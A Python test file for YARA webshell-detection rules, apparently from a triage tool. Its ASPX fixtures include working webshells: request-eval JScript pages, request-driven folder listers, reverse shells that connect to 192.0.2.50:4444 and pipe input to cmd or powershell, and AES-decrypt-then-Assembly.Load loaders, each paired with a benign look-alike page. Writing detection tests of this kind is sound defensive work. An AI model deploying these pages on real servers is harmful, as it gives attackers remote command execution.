"""Rules from the fiftieth unseen collection: first-sight shells rendered from the generators of 2025-2026 tools
(issue 14, helper X50).

On first sight (BENCHMARKS.md, "Unseen shells, fiftieth collection") three pages were found by the behaviour
analysis alone:

- a Python shell manager's AntSword-compatible JScript template reads the password-named form field into a variable
  and calls ``eval(cmd)`` with one argument - ``EXT_WEBSHELL_JScript_Eval_Of_Request_Variable``
  (``data/rules/hidden_eval_code.yar``) needs a JScript server page, a JScript variable declared from a request
  value and eval() of one bare name inside server code;
- a Go web-security tool's "aspx_browser" template lists the folder named by the request, falling back to the
  page's own folder - ``EXT_WEBSHELL_Request_Path_Folder_Lister`` (``data/rules/drive_browsers.yar``) needs a
  folder listed straight from a request value (or a request value falling back to ``Server.MapPath(".")`` beside a
  listing) and the listing written out;
- a Python generator's callback page connects a TcpClient, starts cmd with its standard input redirected, keeps
  that input as a ``StreamWriter`` and writes what the socket sends through it - X19's
  ``EXT_WEBSHELL_Socket_Fed_Interpreter`` (``data/rules/payload_launchers.yar``) now takes the kept writer too.

Beside the set, the Behinder page of a generator measured in session 9 (cseroad/Webshell_Generate) was YARA-silent:
it decrypts the raw request body into a variable and loads it in the next statement, with ``@`` before member names
and comments between the calls - ``EXT_WEBSHELL_Assembly_Load_Of_Decrypted_Variable``
(``data/rules/reflected_loaders.yar``) needs Assembly.Load of one variable instantiated in the same expression, a
decryptor (CreateDecryptor ... TransformFinalBlock) and the raw request body read.

The pages below are harmless files in those shapes, written here (nothing is compiled or run; no test sends a
request), and none is a copy of a collected page. The ordinary pages are the closest everyday ones: JScript pages
that read the request and evaluate a literal, bind data with ``Eval`` or keep eval in browser script; galleries and
log viewers that list a folder of their own; and pages that talk to a TCP service and feed a tool's standard input
from the page; and plug-in pages that decrypt an assembly they read from a file.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, rule_tables, yara_rules

_JS_VAR = "EXT_WEBSHELL_JScript_Eval_Of_Request_Variable"
_LISTER = "EXT_WEBSHELL_Request_Path_Folder_Lister"
_SOCKET = "EXT_WEBSHELL_Socket_Fed_Interpreter"
_DECRYPTED = "EXT_WEBSHELL_Assembly_Load_Of_Decrypted_Variable"

JS_VAR_SHELLS: list[Page] = [
    (
        "js-form-call-into-var",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\nvar field = "k";\nvar code = Request.Form(field);\n'
        "if (code != null) {\n  eval(code);\n}\n%>\n",
    ),
    (
        "js-item-index-string-wrapped",
        ".aspx",
        '<%@ Page Language="Jscript" Debug="false" %>\n<% var t = String(Request.Item["q"]); eval(t); %>\n',
    ),
    (
        "js-server-script-header",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server" language="JScript">\n'
        'function Page_Load() {\n  var h = Request.Headers["X-Token"];\n  if (h) { eval(h); }\n}\n</script>\n',
    ),
]

JS_VAR_ORDINARY: list[Page] = [
    (
        "js-eval-of-a-literal",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\nvar name = Request.QueryString("name");\n'
        'var total = eval("2 + 3");\nResponse.Write(Server.HtmlEncode(name) + ": " + total);\n%>\n',
    ),
    (
        "js-eval-of-an-expression",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\nvar rate = Request.Form("rate");\n'
        'var parsed = eval("(" + "{ vat: 0.2 }" + ")");\nResponse.Write(parsed.vat);\n%>\n',
    ),
    (
        "cs-databinding-eval",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% var id = Request.QueryString["id"]; %>\n'
        '<asp:Repeater ID="r" runat="server"><ItemTemplate><%# Eval("Name") %></ItemTemplate></asp:Repeater>\n',
    ),
    (
        "js-browser-script-eval",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<% var lang = Request.QueryString("lang"); Response.Write(Server.HtmlEncode(lang)); %>\n'
        '<script type="text/javascript">\nvar cfg = document.getElementById("cfg").value;\neval(cfg);\n</script>\n',
    ),
]

LISTERS: list[Page] = [
    (
        "cs-fallback-to-own-folder",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        'void Page_Load() {\n  string where = Request["p"] ?? Server.MapPath(".");\n'
        '  foreach (string d in Directory.GetDirectories(where)) Response.Write("d " + d + "<br/>");\n'
        '  foreach (string f in Directory.GetFiles(where)) Response.Write("f " + f + "<br/>");\n}\n</script>\n',
    ),
    (
        "cs-directoryinfo-of-query",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\nvar di = new System.IO.DirectoryInfo(Request.QueryString["folder"]);\n'
        'foreach (var e in di.GetFileSystemInfos()) Response.Write(e.FullName + "\\n");\n%>\n',
    ),
    (
        "vb-if-fallback",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n'
        '  Dim root As String = If(Request("d"), Server.MapPath("."))\n'
        "  For Each n As String In System.IO.Directory.GetFileSystemEntries(root)\n"
        '    Response.Write(n & "<br>")\n  Next\nEnd Sub\n</script>\n',
    ),
]

LISTER_ORDINARY: list[Page] = [
    (
        "gallery-of-own-album",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        "void Page_Load() {\n"
        '  string album = Path.GetFileName(Request["album"] ?? "summer");\n'
        '  foreach (string f in Directory.GetFiles(Server.MapPath("~/photos/" + album), "*.jpg"))\n'
        '    Response.Write("<img src=\\"photos/" + album + "/" + Path.GetFileName(f) + "\\"/>");\n}\n</script>\n',
    ),
    (
        "log-viewer-sort-fallback",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        '  string sort = Request["sort"] ?? "name";\n'
        '  var files = System.IO.Directory.GetFiles(Server.MapPath("~/App_Data/logs"));\n'
        '  Response.Write(files.Length + " logs, sorted by " + Server.HtmlEncode(sort));\n}\n</script>\n',
    ),
    (
        "own-folder-listing-without-request-path",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        '  string page = Request.QueryString["page"] ?? "1";\n'
        '  foreach (var f in new System.IO.DirectoryInfo(Server.MapPath(".")).GetFiles("*.pdf"))\n'
        '    Response.Write("<li>" + f.Name + "</li>");\n}\n</script>\n',
    ),
]

SOCKET_KEPT_WRITER: list[Page] = [
    (
        "cs-tcpclient-kept-stdin-writer",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<script runat="server">\nvoid Page_Load() {\n'
        '  var c = new System.Net.Sockets.TcpClient(); c.Connect("192.0.2.50", 4444);\n'
        "  var ns = c.GetStream();\n"
        '  var p = new Process(); p.StartInfo.FileName = "cmd";\n'
        "  p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardInput = true;\n"
        "  p.Start();\n  StreamWriter w = p.StandardInput;\n"
        "  byte[] buf = new byte[512]; int n;\n"
        "  while ((n = ns.Read(buf, 0, buf.Length)) > 0) w.WriteLine(System.Text.Encoding.ASCII.GetString(buf, 0, n));\n"
        "}\n</script>\n",
    ),
    (
        "vb-socket-kept-stdin-writer",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n'
        '  Dim t As New System.Net.Sockets.TcpClient("192.0.2.50", 4444)\n  Dim s = t.GetStream()\n'
        '  Dim si As New System.Diagnostics.ProcessStartInfo("powershell.exe")\n'
        "  si.RedirectStandardInput = True : si.UseShellExecute = False\n"
        "  Dim p = System.Diagnostics.Process.Start(si)\n  Dim inp = p.StandardInput\n"
        "  Dim r As New System.IO.StreamReader(s)\n  inp.WriteLine(r.ReadLine())\nEnd Sub\n</script>\n",
    ),
]

SOCKET_KEPT_ORDINARY: list[Page] = [
    (
        "smtp-check-and-sort-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        '  using (var c = new System.Net.Sockets.TcpClient("mail.example.org", 25)) { c.GetStream().ReadByte(); }\n'
        '  var si = new System.Diagnostics.ProcessStartInfo(Server.MapPath("~/bin/sort.exe"));\n'
        "  si.RedirectStandardInput = true; si.UseShellExecute = false;\n"
        "  var p = System.Diagnostics.Process.Start(si);\n  var w = p.StandardInput;\n"
        '  w.WriteLine("b"); w.WriteLine("a"); w.Close();\n}\n</script>\n',
    ),
    (
        "cache-ping-and-report",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        '  var c = new System.Net.Sockets.TcpClient("127.0.0.1", 6379); var ns = c.GetStream();\n'
        '  var ping = System.Text.Encoding.ASCII.GetBytes("PING\\r\\n"); ns.Write(ping, 0, ping.Length);\n'
        '  Response.Write("cache up"); c.Close();\n}\n</script>\n',
    ),
]

DECRYPTED_LOADERS: list[Page] = [
    (
        "cs-verbatim-names-and-comments",
        ".aspx",
        '<%@ Import Namespace="System.Reflection" %><%Session.@Add("k", "0123456789abcdef");'
        ' byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);'
        " byte[] d = new @System.Security.Cryptography.AesManaged()./*x*/@CreateDecryptor(k, k)/*y*/"
        '.TransformFinalBlock(c, 0, c.Length); Assembly.Load(d)/*z*/.@CreateInstance("P").Equals(this);%>'
        '<%@ Page Language="C#" %>\n',
    ),
    (
        "cs-inputstream-two-statements",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        "  var ms = new System.IO.MemoryStream(); Request.InputStream.CopyTo(ms); byte[] raw = ms.ToArray();\n"
        "  var alg = System.Security.Cryptography.Aes.Create(); alg.Key = new byte[16]; alg.IV = new byte[16];\n"
        "  byte[] plain = alg.CreateDecryptor().TransformFinalBlock(raw, 0, raw.Length);\n"
        '  System.Reflection.Assembly.Load(plain).CreateInstance("Q").Equals(Context);\n}\n</script>\n',
    ),
]

DECRYPTED_ORDINARY: list[Page] = [
    (
        "licensed-plugin-from-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        '  byte[] sealedDll = System.IO.File.ReadAllBytes(Server.MapPath("~/App_Data/plugin.bin"));\n'
        "  var alg = System.Security.Cryptography.Aes.Create(); alg.Key = LicenceKey(); alg.IV = new byte[16];\n"
        "  byte[] dll = alg.CreateDecryptor().TransformFinalBlock(sealedDll, 0, sealedDll.Length);\n"
        '  System.Reflection.Assembly.Load(dll).CreateInstance("Reports.Plugin");\n'
        '  Response.Write(Request.QueryString["report"] == null ? "" : "ok");\n}\n'
        "byte[] LicenceKey() { return new byte[16]; }\n</script>\n",
    ),
    (
        "payment-body-decrypted-no-load",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n'
        "  byte[] raw = Request.BinaryRead(Request.ContentLength);\n"
        "  var alg = System.Security.Cryptography.Aes.Create(); alg.Key = new byte[16]; alg.IV = new byte[16];\n"
        "  string note = System.Text.Encoding.UTF8.GetString(alg.CreateDecryptor().TransformFinalBlock(raw, 0, raw.Length));\n"
        '  System.IO.File.AppendAllText(Server.MapPath("~/App_Data/pay.log"), note);\n}\n</script>\n',
    ),
]

CASES: list[RuleCase] = [
    (_JS_VAR, JS_VAR_SHELLS, JS_VAR_ORDINARY),
    (_LISTER, LISTERS, LISTER_ORDINARY),
    (_SOCKET, SOCKET_KEPT_WRITER, SOCKET_KEPT_ORDINARY),
    (_DECRYPTED, DECRYPTED_LOADERS, DECRYPTED_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


def test_bare_name_is_what_the_eval_rule_needs(tmp_path: Path, params: content.ContentParams) -> None:
    """The same page evaluating a literal instead of the request variable is not named: the rule is about the
    input kept in a variable and evaluated, not about JScript pages that read the request."""
    shell = JS_VAR_SHELLS[0][2]
    literal = shell.replace("eval(code);", 'eval("1");')
    assert literal != shell
    assert _JS_VAR in yara_rules(tmp_path, "v.aspx", shell, params)
    assert _JS_VAR not in yara_rules(tmp_path, "l.aspx", literal, params)


def test_own_folder_is_what_the_lister_leaves_alone(tmp_path: Path, params: content.ContentParams) -> None:
    """The lister with its folder fixed under the site (the request value only names a subfolder) is silent."""
    shell = LISTERS[0][2]
    confined = shell.replace(
        'Request["p"] ?? Server.MapPath(".")',
        'Server.MapPath("~/docs/" + System.IO.Path.GetFileName(Request["p"]))',
    )
    assert confined != shell
    assert _LISTER in yara_rules(tmp_path, "b.aspx", shell, params)
    assert _LISTER not in yara_rules(tmp_path, "c.aspx", confined, params)


def test_kept_writer_needs_the_socket(tmp_path: Path, params: content.ContentParams) -> None:
    """Without the TcpClient the page that keeps cmd's standard input as a writer is a tool runner, not a reverse
    shell: the widened rule still wants the connection."""
    shell = SOCKET_KEPT_WRITER[0][2]
    local = shell.replace(
        '  var c = new System.Net.Sockets.TcpClient(); c.Connect("192.0.2.50", 4444);\n  var ns = c.GetStream();\n',
        "  var ns = Request.InputStream;\n",
    )
    assert local != shell
    assert _SOCKET in yara_rules(tmp_path, "s.aspx", shell, params)
    assert _SOCKET not in yara_rules(tmp_path, "n.aspx", local, params)


def test_the_request_body_is_what_the_loader_rule_needs(
    tmp_path: Path, params: content.ContentParams
) -> None:
    """The two-statement loader fed from a file instead of the request body is a plug-in loader, not a shell."""
    shell = DECRYPTED_LOADERS[1][2]
    local = shell.replace(
        "var ms = new System.IO.MemoryStream(); Request.InputStream.CopyTo(ms); byte[] raw = ms.ToArray();",
        'byte[] raw = System.IO.File.ReadAllBytes(Server.MapPath("~/App_Data/p.bin"));',
    )
    assert local != shell
    assert _DECRYPTED in yara_rules(tmp_path, "d.aspx", shell, params)
    assert _DECRYPTED not in yara_rules(tmp_path, "f.aspx", local, params)
